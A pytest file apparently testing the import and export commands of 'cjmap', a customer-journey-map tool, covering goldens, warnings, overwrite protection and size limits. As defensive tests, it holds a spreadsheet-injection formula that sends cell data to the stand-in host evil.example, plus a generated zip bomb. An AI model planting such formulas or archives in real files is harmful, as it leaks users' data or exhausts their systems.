"""`cjmap import` and `cjmap export` as a user runs them: exit codes, what
is written (golden files), what is said, and what is never touched.

Sources made by other tools: the Mermaid documentation's own journey
example, a CSV file as a Spanish Excel saves it (Windows-1252, `;`), and an
.xlsx written by openpyxl with merged cells and formulas
(tests/fixtures/import/). Goldens: tests/golden/import/ and
tests/golden/export/ (CJMAP_UPDATE_GOLDEN=1 rewrites them).
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import openpyxl
import pytest

from cjmap.engine import CheckOptions, check_bytes, has_structure_errors
from conftest import EXAMPLES, GOLDEN, ROOT, check_golden, journey_of_file, run_cli

FIXTURES = ROOT / "tests" / "fixtures" / "import"
STRUCTURE = {f"CJ00{n}" for n in range(1, 8)}


def _import(source: Path, target: Path, capsys, monkeypatch, *more: str) -> tuple[int, str, str]:
    return run_cli(["import", str(source), "-o", str(target), *more], capsys, monkeypatch)


def _structure_codes(path: Path) -> set[str]:
    result = check_bytes(str(path), path.read_bytes(), CheckOptions(), folder=path.parent)
    return {finding.code for finding in result.findings} & STRUCTURE


def _csv(tmp_path: Path, text: str, name: str = "map.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# --- sources made by other tools: goldens ----------------------------------------------------


@pytest.mark.parametrize("fixture", ["mermaid-docs.mmd", "sheet-excel-es.csv", "sheet-merged-formulas.xlsx"])
def test_a_file_made_by_another_tool_imports_as_the_golden_journey(fixture, tmp_path, capsys, monkeypatch):
    source = tmp_path / fixture
    source.write_bytes((FIXTURES / fixture).read_bytes())
    target = tmp_path / "imported.journey.yaml"
    code, out, err = _import(source, target, capsys, monkeypatch)
    assert code == 0, err
    assert out == ""
    text = target.read_text(encoding="utf-8")
    check_golden(GOLDEN / "import" / f"{fixture}.journey.yaml", text.replace(str(tmp_path) + "/", ""))
    assert text.startswith(f"# Imported by `cjmap import` from {source}.\n")
    assert _structure_codes(target) == set()
    # The journey is written first, then what it still lacks is listed.
    assert err.index("cjmap: wrote") < err.index("CJ1")
    assert "Traceback" not in err


def test_the_mermaid_docs_example_arrives_whole(tmp_path, capsys, monkeypatch):
    target = tmp_path / "day.journey.yaml"
    code, _, err = _import(FIXTURES / "mermaid-docs.mmd", target, capsys, monkeypatch)
    assert code == 0, err
    journey = journey_of_file(target)
    assert journey.title == "My working day"
    assert [stage.name for stage in journey.stages] == ["Go to work", "Go home"]
    assert [(step.text, step.score) for step in journey.stages[0].steps] == [
        ("Make tea", 2), ("Go upstairs", 0), ("Do work", -2)]
    assert [persona.name for persona in journey.personas] == ["Me", "Cat"]
    assert journey.stages[0].steps[2].segments == ["me", "cat"]


def test_the_spanish_excel_csv_keeps_its_accents_euro_and_dashes(tmp_path, capsys, monkeypatch):
    target = tmp_path / "es.journey.yaml"
    code, _, err = _import(FIXTURES / "sheet-excel-es.csv", target, capsys, monkeypatch)
    assert code == 0, err
    text = target.read_text(encoding="utf-8")
    assert "€" in text and "—" in text and "ñ" in text
    journey = journey_of_file(target)
    assert journey.language == "es"  # the lane names are Spanish


# --- export goldens ------------------------------------------------------------------------


def _workbook_text(path: Path) -> str:
    """An .xlsx as text, read with openpyxl: every sheet, its frozen panes,
    every cell's value and type, and the emotion fills."""
    book = openpyxl.load_workbook(path)
    lines = [f"title: {book.properties.title}"]
    for sheet in book.worksheets:
        lines.append(f"== {sheet.title} (frozen at {sheet.freeze_panes})")
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                fill = cell.fill.fgColor.rgb if cell.fill.fill_type == "solid" else ""
                lines.append(f"{cell.coordinate} {type(cell.value).__name__} {fill} {cell.value!r}")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("example", ["bank-account-opening", "vallmar-avis-fanal"])
def test_an_export_is_the_golden_grid(example, tmp_path, capsys, monkeypatch):
    journey = EXAMPLES / f"{example}.journey.yaml"
    for suffix in (".csv", ".xlsx"):
        target = tmp_path / f"{example}{suffix}"
        code, out, err = run_cli(["export", str(journey), "-o", str(target)], capsys, monkeypatch)
        assert code == 0, err
        assert f"cjmap: wrote {target}" in err
        produced = target.read_bytes().decode("utf-8-sig") if suffix == ".csv" else _workbook_text(target)
        check_golden(GOLDEN / "export" / f"{example}{suffix}.txt", produced)


def test_a_csv_export_reads_back_with_a_csv_reader(tmp_path, capsys, monkeypatch):
    target = tmp_path / "tienda.csv"
    code, _, err = run_cli(["export", str(EXAMPLES / "tienda-omnicanal.journey.yaml"), "-o", str(target)],
                           capsys, monkeypatch)
    assert code == 0, err
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads accents right with the BOM
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    journey = journey_of_file(EXAMPLES / "tienda-omnicanal.journey.yaml")
    assert rows[0] == ["Etapa", *(stage.name for stage in journey.stages)]
    assert rows[1][0] == "Fase"
    assert [row[0] for row in rows[1:]][:3] == ["Fase", "Pasos", "Necesidades"]


def test_an_xlsx_export_has_the_map_then_the_objectives(tmp_path, capsys, monkeypatch):
    target = tmp_path / "bank.xlsx"
    code, _, err = run_cli(["export", str(EXAMPLES / "bank-account-opening.journey.yaml"), "-o", str(target)],
                           capsys, monkeypatch)
    assert code == 0, err
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["Journey map", "Objectives"]
    grid, objectives = book.worksheets
    assert grid.freeze_panes == "B2"
    assert all(cell.alignment.wrap_text for row in grid.iter_rows() for cell in row if cell.value is not None)
    assert [cell.value for cell in objectives[1]] == [
        "Stage", "Id", "Objective", "Metric", "Target", "Unit", "Baseline", "Direction", "Due", "Owner"]
    journey = journey_of_file(EXAMPLES / "bank-account-opening.journey.yaml")
    ids = [objective.id for stage in journey.stages for objective in stage.objectives]
    assert [row[1].value for row in objectives.iter_rows(min_row=2)] == ids


# --- hostile text never runs in a spreadsheet ------------------------------------------------


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_exported_text_never_runs_as_a_formula_and_imports_back_as_written(tmp_path, capsys, monkeypatch):
    journey = tmp_path / "evil.journey.yaml"
    journey.write_text(
        "cjmap: 1\nid: evil\ntitle: Evil\nstages:\n"
        f"  - id: a\n    name: '{HOSTILE}'\n    needs: ['@SUM(1+1)', '+cmd', '-2+3', \"'quoted\"]\n",
        encoding="utf-8",
    )
    for suffix in (".csv", ".xlsx"):
        sheet = tmp_path / f"evil{suffix}"
        code, _, err = run_cli(["export", str(journey), "-o", str(sheet)], capsys, monkeypatch)
        assert code == 0, err
        if suffix == ".csv":
            rows = list(csv.reader(io.StringIO(sheet.read_bytes().decode("utf-8-sig"), newline="")))
            assert rows[0][1] == "'" + HOSTILE
            # A spreadsheet reads a cell as a formula by its first character only.
            assert next(row for row in rows if row[0] == "Needs")[1] == "'@SUM(1+1)\n+cmd\n-2+3\n'quoted"
        else:
            with zipfile.ZipFile(sheet) as archive:
                for name in archive.namelist():
                    if name.startswith("xl/worksheets/"):
                        assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
        back = tmp_path / suffix[1:] / "back.journey.yaml"  # a folder of its own: the id is the same
        back.parent.mkdir()
        code, _, err = _import(sheet, back, capsys, monkeypatch)
        assert code == 0, err
        imported = journey_of_file(back)
        assert imported.stages[0].name == HOSTILE
        assert [need.text for need in imported.stages[0].needs] == ["@SUM(1+1)", "+cmd", "-2+3", "'quoted"]


# --- what is reported, never dropped ---------------------------------------------------------


def test_what_the_format_cannot_hold_is_reported_at_its_cell(tmp_path, capsys, monkeypatch):
    source = _csv(tmp_path, "Stage,Discover,Buy\nNeeds,Know prices,Pay fast\nChannels,web,store\n"
                            "Emotions,7,1\nTouchpoints,Site [web],Till [teleport]\n")
    target = tmp_path / "map.journey.yaml"
    code, _, err = _import(source, target, capsys, monkeypatch)
    assert code == 0, err
    assert f"cjmap: warning: {source}: A3: “Channels” is not a lane of a journey grid; the row was not imported" in err
    assert f"{source}: B4: the emotion score “7” is not a whole number from -2 to +2" in err
    assert f"{source}: C5: “teleport” after the touchpoint “Till” is not a channel" in err
    header = target.read_text(encoding="utf-8").split("\n\n")[0]
    assert "# - A3: “Channels” is not a lane of a journey grid; the row was not imported" in header
    journey = journey_of_file(target)
    assert [need.text for need in journey.stages[0].needs] == ["Know prices"]
    assert journey.stages[0].emotions is None and journey.stages[1].emotions.score == 1
    assert [(t.name, t.channel) for t in journey.stages[1].touchpoints] == [("Till", "other")]


def test_a_grid_turned_sideways_is_read_as_meant(tmp_path, capsys, monkeypatch):
    source = _csv(tmp_path, "Stage;Needs;Emotions;Touchpoints\nDiscover;Know prices;1;Site [web]\n"
                            "Buy;Pay fast;-1;Till [store]\n")
    target = tmp_path / "map.journey.yaml"
    code, _, err = _import(source, target, capsys, monkeypatch)
    assert code == 0, err
    assert "A1: the stages are rows and the lanes columns in this sheet" in err
    journey = journey_of_file(target)
    assert [(s.name, s.needs[0].text, s.emotions.score) for s in journey.stages] == [
        ("Discover", "Know prices", 1), ("Buy", "Pay fast", -1)]


def test_lane_names_in_any_language_case_and_accents(tmp_path, capsys, monkeypatch):
    source = _csv(tmp_path, "ETAPA;Descoberta\nnecessitats;Saber-ho\nPUNTS DE DOLOR;Cua [alta]\n"
                            "Punts De Contacte;Web [web]\nemocions;-2\nSENTIMENTS;Enfadat\n")
    target = tmp_path / "ca.journey.yaml"
    code, _, err = _import(source, target, capsys, monkeypatch)
    assert code == 0, err
    journey = journey_of_file(target)
    stage = journey.stages[0]
    assert journey.language == "ca"
    assert (stage.needs[0].text, stage.pain_points[0].severity, stage.emotions.feelings) == (
        "Saber-ho", "high", ["Enfadat"])


def test_ids_are_made_from_names_and_made_unique(tmp_path, capsys, monkeypatch):
    source = _csv(tmp_path, "Stage,Visit,Visit,Àvis Públic!\nNeeds,a,b,c\n")
    target = tmp_path / "map.journey.yaml"
    code, _, err = _import(source, target, capsys, monkeypatch)
    assert code == 0, err
    assert [stage.id for stage in journey_of_file(target).stages] == ["visit", "visit-2", "avis-public"]


# --- never over a file, never half written ---------------------------------------------------


def test_an_existing_file_is_never_written_over_without_force(tmp_path, capsys, monkeypatch):
    target = tmp_path / "day.journey.yaml"
    target.write_text("mine\n", encoding="utf-8")
    code, _, err = _import(FIXTURES / "mermaid-docs.mmd", target, capsys, monkeypatch)
    assert code == 2
    assert "already exists; cjmap import does not write over a file" in err and "--force" in err
    assert target.read_text(encoding="utf-8") == "mine\n"
    code, _, err = _import(FIXTURES / "mermaid-docs.mmd", target, capsys, monkeypatch, "--force")
    assert code == 0, err
    assert journey_of_file(target).title == "My working day"


def test_the_default_output_is_beside_the_source(tmp_path, capsys, monkeypatch):
    source = tmp_path / "working day.mmd"
    source.write_bytes((FIXTURES / "mermaid-docs.mmd").read_bytes())
    code, _, err = run_cli(["import", str(source)], capsys, monkeypatch)
    assert code == 0, err
    assert (tmp_path / "working day.journey.yaml").exists()
    assert f"cjmap: wrote {tmp_path / 'working day.journey.yaml'}" in err


def test_import_to_standard_output(capsys, monkeypatch):
    code, out, err = run_cli(["import", str(FIXTURES / "mermaid-docs.mmd"), "-o", "-"], capsys, monkeypatch)
    assert code == 0, err
    assert out.startswith("# Imported by `cjmap import` from ") and "title: My working day" in out


def test_a_source_that_cannot_be_imported_writes_nothing(tmp_path, capsys, monkeypatch):
    target = tmp_path / "x.journey.yaml"
    for name, content in [("notes.csv", "just some text\nwith lines\n"), ("empty.csv", ""),
                          ("flow.mmd", "flowchart LR\n  A --> B\n")]:
        source = tmp_path / name
        source.write_text(content, encoding="utf-8")
        code, _, err = _import(source, target, capsys, monkeypatch)
        assert code == 1, (name, err)
        assert err.startswith("cjmap: error: ") and "hint:" in err and "Traceback" not in err
        assert not target.exists()


def test_a_zip_bomb_is_refused_and_nothing_is_written(tmp_path, capsys, monkeypatch):
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            chunk = b"\0" * (1 << 20)
            for _ in range(300):
                entry.write(chunk)
    target = tmp_path / "bomb.journey.yaml"
    code, _, err = _import(bomb, target, capsys, monkeypatch)
    assert code == 1
    assert err.startswith("cjmap: error: ") and "Traceback" not in err
    assert not target.exists()


@pytest.mark.parametrize(("args", "words"), [
    (["import", "map.docx"], "cannot tell what map.docx is from its name"),
    (["import", "missing.csv"], "cannot read missing.csv"),
    (["import", "map.csv", "--sheet", "Map"], "--sheet chooses a sheet of an .xlsx workbook"),
    (["import", "map.csv", "--lang", "fr"], "Invalid value for '--lang'"),
    (["export", "j.journey.yaml", "-o", "-", "--format", "xlsx"], "cannot be written to standard output"),
    (["export", "j.journey.yaml", "-o", "j.ods"], "cannot tell the format from the name j.ods"),
])
def test_usage_errors_exit_2(args, words, tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "map.csv").write_text("Stage,A\nNeeds,x\n", encoding="utf-8")
    (tmp_path / "j.journey.yaml").write_bytes((EXAMPLES / "bank-first-90-days.journey.yaml").read_bytes())
    code, _, err = run_cli(args, capsys, monkeypatch)
    assert code == 2, err
    assert words in err


def test_an_unknown_sheet_is_a_usage_error_naming_the_sheets(tmp_path, capsys, monkeypatch):
    book = tmp_path / "bank.xlsx"
    code, _, err = run_cli(["export", str(EXAMPLES / "bank-first-90-days.journey.yaml"), "-o", str(book)],
                           capsys, monkeypatch)
    assert code == 0, err
    code, _, err = _import(book, tmp_path / "x.journey.yaml", capsys, monkeypatch, "--sheet", "Journey mapp")
    assert code == 2
    assert "has no sheet named 'Journey mapp'; did you mean `Journey map`?" in err
    assert "its sheets: Journey map, Objectives" in err


# --- export as a journey command -------------------------------------------------------------


def test_export_to_standard_output_and_of_a_folder(tmp_path, capsys, monkeypatch):
    journey = EXAMPLES / "bank-first-90-days.journey.yaml"
    code, out, err = run_cli(["export", str(journey), "--format", "csv", "-o", "-"], capsys, monkeypatch)
    assert code == 0, err
    assert out.splitlines()[0].startswith("\ufeffStage,")
    folder = tmp_path / "out"
    code, _, err = run_cli(["export", str(EXAMPLES), "--output-dir", str(folder)], capsys, monkeypatch)
    assert code == 0, err
    assert sorted(path.name for path in folder.glob("*.xlsx")) == sorted(
        path.name.replace(".journey.yaml", ".xlsx") for path in EXAMPLES.glob("*.journey.yaml"))


def test_export_says_what_the_grid_has_no_place_for(capsys, monkeypatch, tmp_path):
    target = tmp_path / "v.csv"
    code, _, err = run_cli(["export", str(EXAMPLES / "vallmar-avis-fanal.journey.yaml"), "-o", str(target)],
                           capsys, monkeypatch)
    assert code == 0, err
    assert f"cjmap: note: {target} has no place for: the journey's title and id (a CSV file has only the grid); " in err
    assert "13 steps (touchpoint, segments or links)" in err


def test_a_broken_journey_is_not_exported(tmp_path, capsys, monkeypatch):
    journey = tmp_path / "broken.journey.yaml"
    journey.write_text("cjmap: 1\nid: b\ntitle: B\nstages: [{id: a, name: A, needs: [x], wat: 1}]\n", encoding="utf-8")
    target = tmp_path / "broken.xlsx"
    code, _, err = run_cli(["export", str(journey), "-o", str(target)], capsys, monkeypatch)
    assert code == 1
    assert "CJ003" in err and "not exported, fix the errors first" in err
    assert not target.exists()


def test_the_imported_journey_has_no_structure_error(tmp_path, capsys, monkeypatch):
    """Whatever the grid says, the journey written reads without CJ001–CJ007."""
    source = _csv(tmp_path, "Stage,A,A,\nPhase,nowhere,decision,\nSteps,\"x [+9]\n♦ y [0, 3 days]\",z [wait 2 d],\n"
                            "Owner,Team A,team a,\nFeedback,\"ok [Survey, 2026-02-30]\",,\nActions,a [b, c],,\n"
                            ",stray,,\n")
    target = tmp_path / "map.journey.yaml"
    code, _, err = _import(source, target, capsys, monkeypatch)
    assert code == 0, err
    assert _structure_codes(target) == set()
    journey = journey_of_file(target)
    assert [team.name for team in journey.teams] == ["Team A"]
    assert journey.stages[1].owner == journey.stages[0].owner
    assert not has_structure_errors(check_bytes(str(target), target.read_bytes(), CheckOptions()))


def test_the_source_is_read_with_the_size_limit_its_configuration_sets(tmp_path, capsys, monkeypatch):
    (tmp_path / "cjmap.toml").write_text("[limits]\nfile-size = 100\n", encoding="utf-8")
    source = _csv(tmp_path, "Stage,Discover\nNeeds," + "x" * 200 + "\n")
    target = tmp_path / "map.journey.yaml"
    code, _, err = _import(source, target, capsys, monkeypatch)
    assert code == 1
    assert f"{source} is larger than 100 bytes" in err
    assert not target.exists()
